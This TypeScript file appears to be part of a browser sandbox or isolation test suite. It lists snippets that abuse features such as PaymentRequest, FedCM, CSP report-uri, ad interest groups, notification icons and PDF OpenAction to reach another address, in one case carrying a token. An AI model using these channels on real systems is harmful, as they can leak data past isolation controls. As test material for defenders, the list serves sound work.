import { address, blob, type Escape, element, file } from '../escape'

/** Identity, payment, documents of other kinds, and what browsers have besides. */
export const other: readonly Escape[] = [
  {
    name: 'sign-in by another site',
    code: `await navigator.credentials.get({ identity: { providers: [{ configURL: ${file('json')}, clientId: '1' }] } })`,
  },
  {
    name: 'passkey of another site',
    only: 'elsewhere',
    names: true,
    code: `await navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: host } })`,
  },
  {
    name: 'payment',
    code: `const total = { label: 'a', amount: { currency: 'USD', value: '1' } }
      const payment = new PaymentRequest([{ supportedMethods: target + '/pay?' + token }], { total })
      payment.canMakePayment().catch(() => {})
      await payment.show()`,
  },
  { name: 'installation of another app', code: `await navigator.install(${address})` },
  {
    name: 'interest group',
    code: `await navigator.joinAdInterestGroup({ owner: target, name: 'a', updateURL: ${address} }, 1000); navigator.updateAdInterestGroups()`,
  },
  {
    name: 'style of an XML page',
    code: `const xml = '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="' + ${file('xsl')} + '"?><a/>'
      location.href = ${blob('xml', 'text/xml')}`,
  },
  {
    name: 'report of a policy',
    code: `const content = "img-src 'none'; report-uri " + ${address}
      document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content }))
      new Image().src = '/q.png'`,
  },
  { name: 'document.write', code: `document.write('<img src="' + ${file('png')} + '">')` },
  {
    name: 'image put in by editing',
    code: `document.body.contentEditable = true
      getSelection().selectAllChildren(document.body)
      document.execCommand('insertImage', false, ${file('png')})`,
  },
  { name: 'icon of a notification', code: `new Notification('a', { icon: ${file('png')} })` },
  {
    name: 'picture of what plays',
    code: `navigator.mediaSession.metadata = new MediaMetadata({ title: 'a', artwork: [{ src: ${file('png')} }] })`,
  },
  {
    name: 'action of a PDF',
    code: `const pdf = '%PDF-1.4\\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(' + ${address} + ')>>>>endobj\\n' +
        '2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\\ntrailer<</Root 1 0 R>>'
      ${element('iframe', `{ src: ${blob('pdf', 'application/pdf')} }`)}`,
  },
]
